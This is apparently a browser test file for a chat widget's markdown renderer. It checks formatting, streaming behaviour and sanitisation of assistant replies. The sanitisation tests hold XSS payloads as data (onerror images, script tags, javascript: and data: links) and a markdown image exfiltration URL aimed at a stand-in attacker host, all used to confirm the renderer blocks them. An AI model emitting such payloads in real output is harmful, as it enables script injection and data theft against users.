/**
 * Replies as markdown in real Chromium, through the chat store and ChatPanel: what is rendered,
 * that nothing from the model becomes markup or a dangerous link, and that a streaming reply
 * leaves its finished blocks alone.
 */
import { describe, expect, it } from 'vitest';
import { render } from 'vitest-browser-react';
import { ChatPanel, type ChatPanelProps } from '../components/chat-panel.tsx';
import { createChatStore } from '../core/store.ts';
import { ChatStoreProvider } from '../react/context.tsx';

const timestamp = '2026-01-01T00:00:00.000Z';

/** A store fed like the socket feeds it; `say` streams tokens into the reply `id`. */
function replyStore() {
  const store = createChatStore();
  const frame = (payload: object) =>
    store.actions.receive(JSON.stringify({ ...payload, timestamp }));
  return {
    store,
    start: (id = 'r1') => frame({ type: 'stream-start', messageId: id }),
    say: (token: string, id = 'r1') => frame({ type: 'stream-token', messageId: id, token }),
    end: (id = 'r1') => frame({ type: 'stream-end', messageId: id }),
  };
}

async function showReply(text: string, props: ChatPanelProps = {}) {
  const { store, start, say, end } = replyStore();
  start();
  say(text);
  end();
  const screen = await render(
    <ChatStoreProvider store={store}>
      <ChatPanel {...props} />
    </ChatStoreProvider>,
  );
  const reply = screen.container.querySelector('[data-role="assistant"]') as HTMLElement;
  await expect.element(reply).toHaveAttribute('data-status', 'complete');
  return reply;
}

declare global {
  interface Window {
    chatwireHacked?: number;
  }
}

describe('markdown replies', () => {
  it('render the elements models write', async () => {
    const reply = await showReply(
      [
        '# Title',
        'Some **bold**, *em*, ~~gone~~ and `code`, plus [a link](https://example.com/docs).',
        '- one\n- two',
        '3. three\n4. four',
        '- [x] done\n- [ ] to do',
        '> quoted',
        '| Name | Size |\n|:--|--:|\n| a | 1 |',
        '```tsx\n<ChatWidget token={jwt} />\n```',
        '---',
      ].join('\n\n'),
    );
    expect(reply.querySelector('h3')?.textContent).toBe('Title');
    expect(reply.querySelector('strong')?.textContent).toBe('bold');
    expect(reply.querySelector('em')?.textContent).toBe('em');
    expect(reply.querySelector('del')?.textContent).toBe('gone');
    expect(reply.querySelector('p code')?.textContent).toBe('code');
    const link = reply.querySelector('a') as HTMLAnchorElement;
    expect(link.href).toBe('https://example.com/docs');
    expect(link.target).toBe('_blank');
    expect(link.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    expect(link.textContent).toBe('a link (opens in a new tab)');
    // Bidi-isolated: a right-to-left link text cannot reorder the sentence around it.
    expect(getComputedStyle(link).unicodeBidi).toBe('isolate');
    expect(reply.querySelectorAll('ul > li')).toHaveLength(4);
    expect(reply.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(reply.querySelector('ul:has(li:nth-child(2)) + ol + ul')?.textContent).toBe(
      '☑Done: done☐To do: to do',
    );
    expect(reply.querySelector('blockquote')?.textContent).toBe('quoted');
    expect(reply.querySelector('th')?.getAttribute('scope')).toBe('col');
    expect((reply.querySelector('td:last-child') as HTMLElement).style.textAlign).toBe('right');
    const code = reply.querySelector('pre[data-slot="code-block"]');
    expect(code?.getAttribute('data-language')).toBe('tsx');
    expect(code?.textContent).toBe('<ChatWidget token={jwt} />');
    expect(reply.querySelector('hr')).not.toBeNull();
  });

  it('show raw HTML as text and never run or fetch anything from a reply', async () => {
    window.chatwireHacked = undefined;
    const reply = await showReply(
      [
        '<img src=x onerror="window.chatwireHacked=1">',
        'inline <script>window.chatwireHacked=2</script> tag',
        '[js](javascript:window.chatwireHacked=3) [entity](&#106;avascript:alert(1)) [tab](java\tscript:alert(1))',
        '[data](data:text/html,<script>alert(1)</script>) [relative](/logout)',
        '![exfil](https://evil.example/?q=secret)',
        '<a href="javascript:alert(1)">html link</a>',
      ].join('\n\n'),
    );
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(window.chatwireHacked).toBeUndefined();
    expect(reply.querySelector('img, script, iframe, [onerror]')).toBeNull();
    expect(reply.textContent).toContain('<img src=x onerror="window.chatwireHacked=1">');
    expect(reply.textContent).toContain('<script>window.chatwireHacked=2</script>');
    const hrefs = [...reply.querySelectorAll('a')].map((anchor) => anchor.getAttribute('href'));
    // The only link left is the image, offered as a link instead of fetched.
    expect(hrefs).toEqual(['https://evil.example/?q=secret']);
    const blocked = [...reply.querySelectorAll('[data-slot="blocked-link"]')];
    expect(blocked.map((link) => link.textContent)).toEqual(['js', 'entity', 'data', 'relative']);
  });

  it('load images only from hosts the app allows', async () => {
    const reply = await showReply(
      '![chart](https://cdn.example.com/chart.png) ![other](https://elsewhere.example/x.png)',
      { allowImage: (url) => url.hostname === 'cdn.example.com' },
    );
    const images = [...reply.querySelectorAll('img')];
    expect(images.map((image) => [image.getAttribute('src'), image.alt])).toEqual([
      ['https://cdn.example.com/chart.png', 'chart'],
    ]);
    expect(reply.querySelector('a')?.getAttribute('href')).toBe('https://elsewhere.example/x.png');
  });

  it('as plain text when renderMarkdown is false, with web addresses linked', async () => {
    const reply = await showReply('Some **stars** at https://example.com/a.', {
      renderMarkdown: false,
    });
    expect(reply.querySelector('strong')).toBeNull();
    expect(reply.querySelector('[data-slot="plain-text"]')?.textContent).toBe(
      'Some **stars** at https://example.com/a (opens in a new tab).',
    );
    expect(reply.querySelector('a')?.getAttribute('href')).toBe('https://example.com/a');
  });

  it("through the app's own renderer when renderMarkdown is a function", async () => {
    const reply = await showReply('hello **there**', {
      renderMarkdown: (text, { streaming }) => (
        <output data-streaming={streaming}>{text.toUpperCase()}</output>
      ),
    });
    expect(reply.querySelector('output')?.textContent).toBe('HELLO **THERE**');
    expect(reply.querySelector('output')?.getAttribute('data-streaming')).toBe('false');
  });
});

describe('hostile markdown', () => {
  it('nested past what the parser survives is shown as text, and the widget keeps working', async () => {
    const quotes = `${'>'.repeat(3_000)} deep`;
    const stars = `${'*'.repeat(3_000)}x${'*'.repeat(3_000)}`;
    const lists = `${'- > '.repeat(1_500)}bottom`;
    for (const text of [quotes, stars, lists]) {
      const reply = await showReply(text);
      expect(reply.textContent).toContain(text.slice(-4));
    }
  });

  it('gives each task in a loose list one box', async () => {
    const reply = await showReply('- [ ] first\n\n- [x] second');
    expect(reply.querySelectorAll('li')).toHaveLength(2);
    expect(reply.textContent?.match(/[☐☑]/g)).toEqual(['☐', '☑']);
  });
});

describe('a streaming markdown reply', () => {
  it('never links to or fetches a URL that is still arriving', async () => {
    const { store, start, say } = replyStore();
    start();
    const screen = await render(
      <ChatStoreProvider store={store}>
        <ChatPanel allowImage={() => true} />
      </ChatStoreProvider>,
    );
    say('See [the docs](https://docs.exa');
    const reply = () => screen.container.querySelector('[data-role="assistant"]') as HTMLElement;
    await expect.poll(() => reply()?.textContent).toContain('See the docs');
    expect(reply().querySelector('a')).toBeNull();
    say('mple.com) and ![a cat](https://cdn.example.com/ca');
    await expect
      .poll(() => reply().querySelector('a')?.getAttribute('href'))
      .toBe('https://docs.example.com/');
    expect(reply().querySelector('img')).toBeNull();
  });

  it('leaves finished blocks untouched while later ones stream in', async () => {
    const { store, start, say, end } = replyStore();
    start();
    const screen = await render(
      <ChatStoreProvider store={store}>
        <ChatPanel />
      </ChatStoreProvider>,
    );
    say('First paragraph with **bold** text.\n\n');
    say('Second');
    const markdown = () => screen.container.querySelector('[data-slot="markdown"]') as HTMLElement;
    await expect.poll(() => markdown()?.querySelectorAll('p').length).toBe(2);
    const first = markdown().querySelector('p') as HTMLElement;
    const changes: MutationRecord[] = [];
    const observer = new MutationObserver((records) => changes.push(...records));
    observer.observe(first, {
      subtree: true,
      childList: true,
      characterData: true,
      attributes: true,
    });
    for (let index = 0; index < 30; index++) say(` word${index}`);
    say('.\n\n- a list\n- growing');
    say('\n\nThe end.');
    end();
    await expect.poll(() => markdown().querySelectorAll('li').length).toBe(2);
    observer.disconnect();
    expect(changes).toEqual([]);
    expect(first.isConnected).toBe(true);
    expect(markdown().querySelector('p')).toBe(first);
  });

  it('shows open bold and an open code fence formatted, without raw markers', async () => {
    const { store, start, say } = replyStore();
    start();
    const screen = await render(
      <ChatStoreProvider store={store}>
        <ChatPanel />
      </ChatStoreProvider>,
    );
    say('Here is **bold te');
    const reply = screen.container.querySelector('[data-role="assistant"]') as HTMLElement;
    await expect.poll(() => reply.querySelector('strong')?.textContent).toBe('bold te');
    expect(reply.querySelector('[data-slot="markdown"]')?.textContent).not.toContain('*');
    say('xt** done.\n\n```py\nprint("hi")\n');
    await expect.poll(() => reply.querySelector('pre code')?.textContent).toBe('print("hi")');
    expect(reply.querySelector('pre [data-slot="caret"]')).not.toBeNull();
  });
});
